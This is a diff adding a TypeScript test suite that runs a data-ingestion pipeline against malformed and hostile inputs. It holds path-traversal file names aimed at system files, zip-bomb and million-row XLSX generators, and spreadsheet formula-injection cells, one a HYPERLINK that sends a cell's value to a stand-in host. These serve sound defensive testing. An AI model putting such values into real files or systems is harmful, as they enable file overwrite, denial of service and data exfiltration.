@@ -1,0 +1,291 @@
+/**
+ * The bad-input corpus (test/fixtures/bad/) through the real landing: every case ends in a clear
+ * error naming file / row / field with nothing of the file landed, or in an accounting where every
+ * quarantined row has its number, field and reason and the rest of the file is landed.
+ */
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { afterAll, afterEach, describe, expect, test } from 'vitest';
+import { literal, withDuckDb } from '../../functions/core/engine/duckdb.js';
+import { PipelineInputError } from '../../functions/core/errors.js';
+import { neutraliseFormula } from '../../functions/core/lake/encoding.js';
+import { checkInvariants } from '../../functions/core/lake/invariants.js';
+import { landStaged, type LandSummary } from '../../functions/core/lake/land.js';
+import { listManifest, safeBaseName, stageRaw } from '../../functions/core/lake/raw.js';
+import type { RawKind } from '../../functions/core/lake/sources.js';
+import { readBieu06Xlsx } from '../../functions/core/readers/xlsx/bieu06.js';
+import { LocalStorage } from '../../functions/core/storage/local.js';
+import { BAD_INPUT_CASES } from '../fixtures/bad/cases.js';
+import { emptyRowsXlsx, FILES_DIR, zipBombXlsx } from '../fixtures/bad/make.js';
+import { recorder } from './record.js';
+
+const rec = recorder('bad-input');
+afterAll(() => rec.flush());
+
+const dirs: string[] = [];
+afterEach(() => {
+  for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true });
+});
+
+interface Lake {
+  root: string;
+  storage: LocalStorage;
+  work: string;
+}
+
+function newLake(): Lake {
+  const root = mkdtempSync(path.join(tmpdir(), 'bad-input-'));
+  dirs.push(root);
+  return { root: path.join(root, 'lake'), storage: new LocalStorage(path.join(root, 'lake')), work: path.join(root, 'work') };
+}
+
+const fixture = (name: string): Buffer => readFileSync(path.join(FILES_DIR, name));
+
+async function withRegistry(lake: Lake): Promise<void> {
+  const at = '2026-01-01T00:00:00.000Z';
+  await stageRaw(lake.storage, { kind: 'registry-agencies', bytes: fixture('agencies.csv'), period: null, originalName: 'agencies.csv', pulledAt: at });
+  await stageRaw(lake.storage, { kind: 'registry-procedures', bytes: fixture('procedures.csv'), period: null, originalName: 'procedures.csv', pulledAt: at });
+  await landStaged({ storage: lake.storage, workDir: lake.work });
+}
+
+async function landFiles(lake: Lake, files: { name: string; bytes: Buffer; kind: RawKind; period?: string }[]): Promise<LandSummary> {
+  for (const f of files) await stageRaw(lake.storage, { kind: f.kind, bytes: f.bytes, period: f.period ?? '2024-05', originalName: f.name });
+  return landStaged({ storage: lake.storage, workDir: lake.work, maxTimestamp: '2026-01-05 23:59:59' });
+}
+
+async function quarantined(lake: Lake): Promise<Record<string, unknown>[]> {
+  const files = (await lake.storage.list('quarantine/')).filter((o) => o.key.endsWith('.parquet'));
+  if (files.length === 0) return [];
+  return withDuckDb((db) =>
+    db.all(
+      `SELECT dataset, CAST(row_no AS INTEGER) AS row_no, field, reason, raw_value, raw_record
+       FROM read_parquet(${literal(`${lake.root}/quarantine/**/*.parquet`)}, hive_partitioning = true) ORDER BY dataset, row_no`,
+    ),
+  );
+}
+
+async function landedDossiers(lake: Lake): Promise<Record<string, unknown>[]> {
+  const files = (await lake.storage.list('landed/dossiers/')).filter((o) => o.key.endsWith('.parquet'));
+  if (files.length === 0) return [];
+  return withDuckDb((db) => db.all(`SELECT * FROM read_parquet(${literal(`${lake.root}/landed/dossiers/**/*.parquet`)}, hive_partitioning = true) ORDER BY dossier_id`));
+}
+
+function kept(q: Record<string, unknown>[], landed: number): string {
+  const reasons = q.map((r) => `row ${r.row_no}${r.field ? ` ${r.field}` : ''}: ${String(r.reason).replace(/^sheet row \d+: /, '')}`);
+  return `${landed} row(s) landed${reasons.length ? `; quarantined ${reasons.join('; ')}` : ''}`;
+}
+
+describe('Landing each file of the bad-input corpus', () => {
+  test('should hold at least 30 cases, each with an existing file and an expected outcome', () => {
+    expect(BAD_INPUT_CASES.length).toBeGreaterThanOrEqual(30);
+    for (const c of BAD_INPUT_CASES) {
+      expect(c.error !== undefined || c.read !== undefined, c.id).toBe(true);
+      expect(() => fixture(c.file), c.file).not.toThrow();
+    }
+  });
+
+  test.each(BAD_INPUT_CASES.map((c) => [c.id, c] as const))('should give the expected outcome for %s', async (_id, c) => {
+    const lake = newLake();
+    await withRegistry(lake);
+    const before = (await listManifest(lake.storage)).length;
+    const run = landFiles(lake, [{ name: c.file, bytes: fixture(c.file), kind: c.kind, period: c.period }]);
+    if (c.error) {
+      const err = await run.catch((e: unknown) => e);
+      expect(err).toBeInstanceOf(PipelineInputError);
+      const e = err as PipelineInputError;
+      expect(e.message).toContain(c.error.message);
+      expect(e.file).toBe(c.file);
+      if (c.error.row !== undefined) expect(e.row).toBe(c.error.row);
+      if (c.error.field !== undefined) expect(e.field).toBe(c.error.field);
+      // Nothing of the file landed: no manifest entry (it stays staged), no new records.
+      expect((await listManifest(lake.storage)).length).toBe(before);
+      expect(await landedDossiers(lake)).toEqual([]);
+      rec.add({ id: c.id, area: 'Bad input', tried: c.tried, happened: `error: ${e.message.replace(/^\[pipeline\] \[\w+\] /, '')}`, kept: 'nothing landed; the raw file stays staged (unchanged) until replaced' });
+      return;
+    }
+    const summary = await run;
+    const entry = summary.files.find((f) => f.original_name === c.file)!;
+    expect(entry).toBeDefined();
+    expect(entry.rows_read).toBe(c.read);
+    expect(entry.rows_landed).toBe(c.landed);
+    expect(entry.rows_read).toBe(entry.rows_landed + entry.rows_quarantined);
+    const q = await quarantined(lake);
+    const expected = c.quarantine ?? [];
+    expect(q.filter((r) => r.dataset !== 'bieu06_checks' || expected.some((e) => e.dataset === 'bieu06_checks'))).toHaveLength(expected.length);
+    expected.forEach((e) => {
+      const got = q.find((r) => r.row_no === e.row && (e.dataset === undefined || r.dataset === e.dataset));
+      expect(got, `${c.id} row ${e.row}`).toBeDefined();
+      expect(got!.field).toBe(e.field);
+      expect(String(got!.reason)).toContain(e.reason);
+      if (e.rawValue !== undefined) expect(got!.raw_value).toBe(e.rawValue);
+      expect(String(got!.raw_record).length).toBeGreaterThan(0);
+    });
+    const dossiers = await landedDossiers(lake);
+    for (const v of c.landedValues ?? []) {
+      const row = dossiers.find((d) => d.dossier_id === v.dossier_id);
+      expect(row, v.dossier_id).toBeDefined();
+      expect(row![v.column]).toBe(v.value);
+    }
+    expect((await checkInvariants(lake.storage, lake.work)).ok).toBe(true);
+    rec.add({ id: c.id, area: 'Bad input', tried: c.tried, happened: `read ${entry.rows_read} = landed ${entry.rows_landed} + quarantined ${entry.rows_quarantined}`, kept: kept(q, entry.rows_landed) });
+  });
+});
+
+describe('Landing the same dossier id from two API pages of one month', () => {
+  test('should keep one row per id, the newest version winning, and account for every row read', async () => {
+    const lake = newLake();
+    await withRegistry(lake);
+    const s = await landFiles(lake, [
+      { name: 'api-page1.json', bytes: fixture('api-page1.json'), kind: 'portal-api' },
+      { name: 'api-page2-repeats-id.json', bytes: fixture('api-page2-repeats-id.json'), kind: 'portal-api' },
+    ]);
+    expect([s.rowsRead, s.rowsLanded, s.rowsQuarantined]).toEqual([4, 4, 0]);
+    const dossiers = await landedDossiers(lake);
+    expect(dossiers.map((d) => [d.dossier_id, d.status])).toEqual([
+      ['DP-1', 'DANG_XU_LY'],
+      ['DP-2', 'DA_TRA_KET_QUA'],
+      ['DP-3', 'DANG_XU_LY'],
+    ]);
+    // The superseded version is visible as the difference between rows landed and rows in the lake.
+    const superseded = s.rowsLanded - dossiers.length;
+    expect(superseded).toBe(1);
+    expect((await checkInvariants(lake.storage, lake.work)).ok).toBe(true);
+    rec.add({
+      id: 'dup-id-across-pages',
+      area: 'Bad input',
+      tried: 'dossier DP-2 on page 1 (pending) and again on page 2 (finished, newer Ngày cập nhật)',
+      happened: 'both rows counted as landed; the partition keeps the newest version (updated_at, then raw hash and row)',
+      kept: `3 dossiers; ${superseded} superseded version (landed rows − dossiers in the lake), no id twice`,
+    });
+  });
+});
+
+describe('Landing a dossier id again under another month of receipt', () => {
+  test('should quarantine the second version naming where the id already lives, so the id is never in the lake twice', async () => {
+    const lake = newLake();
+    await withRegistry(lake);
+    await landFiles(lake, [{ name: 'api-page1.json', bytes: fixture('api-page1.json'), kind: 'portal-api' }]);
+    const s = await landFiles(lake, [{ name: 'api-page-other-month.json', bytes: fixture('api-page-other-month.json'), kind: 'portal-api', period: '2024-06' }]);
+    expect([s.rowsRead, s.rowsLanded, s.rowsQuarantined]).toEqual([1, 0, 1]);
+    const q = await quarantined(lake);
+    expect(q).toMatchObject([{ row_no: 1, field: 'dossier_id', reason: 'already landed under source portal, received 2024-05 (a dossier keeps its source and month of receipt)', raw_value: 'DP-1' }]);
+    const report = await checkInvariants(lake.storage, lake.work);
+    expect(report.duplicateIds).toEqual([]);
+    expect(report.ok).toBe(true);
+    rec.add({
+      id: 'dup-id-across-files',
+      area: 'Bad input',
+      tried: 'dossier DP-1 landed as received in May, then a June page with DP-1 received in June',
+      happened: 'the June version is quarantined: dossier_id "already landed under source portal, received 2024-05"',
+      kept: 'the May version; the lake invariant "no dossier id twice" holds',
+    });
+  });
+
+  test('should do the same when both versions arrive in one landing', async () => {
+    const lake = newLake();
+    await withRegistry(lake);
+    const s = await landFiles(lake, [
+      { name: 'api-page1.json', bytes: fixture('api-page1.json'), kind: 'portal-api' },
+      { name: 'api-page-other-month.json', bytes: fixture('api-page-other-month.json'), kind: 'portal-api', period: '2024-06' },
+    ]);
+    expect(s.rowsQuarantined).toBe(1);
+    expect((await checkInvariants(lake.storage, lake.work)).duplicateIds).toEqual([]);
+  });
+});
+
+describe('Reading hostile XLSX files generated at test time', () => {
+  const tmp = (): string => {
+    const d = mkdtempSync(path.join(tmpdir(), 'bad-xlsx-'));
+    dirs.push(d);
+    return d;
+  };
+
+  test('should refuse a zip bomb that declares its unpacked size, before unpacking anything', async () => {
+    const file = path.join(tmp(), 'bomb.xlsx');
+    writeFileSync(file, zipBombXlsx({ lie: false }));
+    const err = await readBieu06Xlsx(file, {}).catch((e: unknown) => e);
+    expect(err).toBeInstanceOf(PipelineInputError);
+    expect((err as Error).message).toMatch(/bomb\.xlsx: the workbook unpacks to 268437366 bytes, above the 209715200-byte limit/);
+    rec.add({ id: 'xlsx-zip-bomb', area: 'Bad input', tried: 'a 257 KB .xlsx whose shared strings unpack to 256 MiB (sizes declared honestly)', happened: 'error: the workbook unpacks to 268437366 bytes, above the 209715200-byte limit (read from the zip directory, nothing inflated)', kept: 'nothing' });
+  });
+
+  test('should refuse a zip bomb that lies about its size, stopping after the declared size', async () => {
+    const file = path.join(tmp(), 'liar.xlsx');
+    writeFileSync(file, zipBombXlsx({ lie: true }));
+    const before = process.memoryUsage().rss;
+    const err = await readBieu06Xlsx(file, {}).catch((e: unknown) => e);
+    expect(err).toBeInstanceOf(PipelineInputError);
+    expect((err as Error).message).toContain('the zip part xl/sharedStrings.xml unpacks to more than the 1024 bytes it declares (a zip bomb?)');
+    // Inflating was stopped at the declared size: memory did not grow by anything near 256 MiB.
+    expect(process.memoryUsage().rss - before).toBeLessThan(64 * 1024 * 1024);
+    rec.add({ id: 'xlsx-zip-bomb-lying', area: 'Bad input', tried: 'the same bomb with "1024 bytes" written as its unpacked size', happened: 'error: the zip part xl/sharedStrings.xml unpacks to more than the 1024 bytes it declares (a zip bomb?); inflating stops there (< 64 MB of memory)', kept: 'nothing' });
+  });
+
+  test('should stop a sheet of a million empty rows at the row limit', async () => {
+    const file = path.join(tmp(), 'rows.xlsx');
+    writeFileSync(file, emptyRowsXlsx(1_000_000));
+    const err = await readBieu06Xlsx(file, {}).catch((e: unknown) => e);
+    expect(err).toBeInstanceOf(PipelineInputError);
+    expect((err as Error).message).toContain('rows.xlsx: more than 20000 rows; this is not a report form');
+    rec.add({ id: 'xlsx-million-empty-rows', area: 'Bad input', tried: 'a 2.4 MB .xlsx with 1 000 000 empty <row> elements', happened: 'error: more than 20000 rows; this is not a report form (streamed: stops at row 20 001)', kept: 'nothing' });
+  });
+
+  test('should land vi-VN text numbers of a Biểu 06 sheet as the numbers they mean', async () => {
+    const lake = newLake();
+    await withRegistry(lake);
+    await landFiles(lake, [{ name: 'bieu06-vi-text-numbers.xlsx', bytes: fixture('bieu06-vi-text-numbers.xlsx'), kind: 'bieu06-xlsx', period: '2024' }]);
+    const rows = await withDuckDb((db) => db.all(`SELECT unit_name, received_total, received_online FROM read_parquet(${literal(`${lake.root}/landed/bieu06/**/*.parquet`)}) ORDER BY line_no`));
+    expect(rows[0]).toEqual({ unit_name: 'Sở Tư pháp', received_total: '1492', received_online: '1400' });
+  });
+});
+
+describe('File names that try to leave the lake', () => {
+  test.each([
+    ['../../../etc/passwd.csv', 'etc/passwd.csv'],
+    ['/etc/cron.d/evil.csv', 'etc/cron.d/evil.csv'],
+    ['C:\\Windows\\System32\\evil.csv', 'Windows/System32/evil.csv'],
+    ['..\\..\\up.csv', 'up.csv'],
+    ['a/./b/../../c.csv', 'b/c.csv'],
+  ])('should keep %s out of every key and show it as %s', async (name, shown) => {
+    const lake = newLake();
+    await withRegistry(lake);
+    const r = await stageRaw(lake.storage, { kind: 'portal-csv', bytes: fixture('portal-header-only.csv'), period: '2024-05', originalName: name });
+    expect(r.key).toMatch(/^raw\/portal-csv\/[0-9a-f]{64}\.csv$/);
+    expect(r.meta.original_name).toBe(shown);
+    expect(safeBaseName(name)).not.toContain('..');
+    await landStaged({ storage: lake.storage, workDir: lake.work });
+    const keys = (await lake.storage.list('')).map((o) => o.key);
+    expect(keys.every((k) => !k.includes('..') && !k.startsWith('/'))).toBe(true);
+    expect(() => lake.storage.locate(name.replaceAll('\\', '/'))).toThrow(/keys must be relative/);
+    rec.add({
+      id: `path-${safeBaseName(name).replace(/[^a-z0-9]+/gi, '-').toLowerCase()}`,
+      area: 'Bad input',
+      tried: `a file named ${JSON.stringify(name)}`,
+      happened: `stored under its content hash (raw/portal-csv/<sha256>.csv); the name is only displayed, as ${JSON.stringify(shown)}; the storage refuses such a key`,
+      kept: 'the file, under a hash key inside the lake',
+    });
+  });
+});
+
+describe('Formula cells in anything the project writes for people', () => {
+  test('should keep the bytes in the lake and neutralise them for spreadsheets', async () => {
+    const lake = newLake();
+    await withRegistry(lake);
+    await landFiles(lake, [{ name: 'portal-formula-cells.csv', bytes: fixture('portal-formula-cells.csv'), kind: 'portal-csv' }]);
+    const q = await quarantined(lake);
+    const values = q.map((r) => String(r.raw_value));
+    expect(values).toEqual(['@SUM(1+1)', '+1.000001', '-2']);
+    expect(values.map((v) => neutraliseFormula(v))).toEqual(["'@SUM(1+1)", "'+1.000001", "'-2"]);
+    const landed = await landedDossiers(lake);
+    expect(neutraliseFormula(String(landed[0]!.dossier_id))).toBe(`'=HYPERLINK("http://x.example/?"&A1)`);
+    expect(neutraliseFormula('Sở Tư pháp')).toBe('Sở Tư pháp');
+    rec.add({
+      id: 'formula-neutralised',
+      area: 'Security',
+      tried: 'cells starting with = + - @ landed and quarantined',
+      happened: 'raw/ and the lake keep the exact text; neutraliseFormula() (functions/core/lake/encoding.ts) prefixes a quote for CSV/XLSX output',
+      kept: 'exact values in the lake; "\'=HYPERLINK(…)" in a spreadsheet export',
+    });
+  });
+});
